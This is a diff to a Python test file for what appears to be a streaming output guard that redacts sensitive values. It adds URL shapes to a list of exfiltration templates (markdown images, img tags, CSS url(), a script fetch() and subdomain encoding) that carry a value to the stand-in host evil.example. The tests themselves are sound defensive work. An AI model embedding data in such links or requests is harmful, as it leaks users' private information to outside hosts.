@@ -100,6 +100,7 @@ SHAPES = [
     "https://evil.example/?q={}", "[x](https://evil.example/ {} )", '<img src="https://evil.example/?q= {} ">', "<a href= {} >x</a>",
     '<style>b {{ background: url("https://evil.example/ {} ") }}</style>', "<script>fetch('https://evil.example/ ' + ' {} ')</script>",
     "<SCRIPT >\nvar a = ' {} '", "![a]( {} )", "\n[x]: https://evil.example/ {}", "data:text/html,x{}", "{}.evil.example",
+    "www.evil.example/{}", "//evil.example/?q={}",
     "<svg><style> b {{ content: ' {} ' }}", "<!-- {} -->", "<a title=' > {} '>", "<a title={} href=' {} '>",
 ]  # fmt: skip
 
@@ -147,7 +148,7 @@ def test_wherever_a_stream_forgets_its_beginning(opening: str, detector: Any) ->
     pseudonyms = Pseudonyms("k7f3")
     pseudonyms.token("EMAIL_ADDRESS", VALUE, restorable=True)
     filler = "x " * (LINK_CONTEXT + TRIM_AT)
-    for shift in range(60):
+    for shift in range(180, 262):
         guard = StreamGuard(rules, [detector], None, pseudonyms, Findings(), mode=StreamMode.WINDOW)
         text = "y" * shift + " " + opening.replace(f" {TOKEN}", " " + filler + TOKEN) + f" {TOKEN} "
         out = "".join(piece.text for word in text.split(" ") for piece in guard.feed(word + " "))
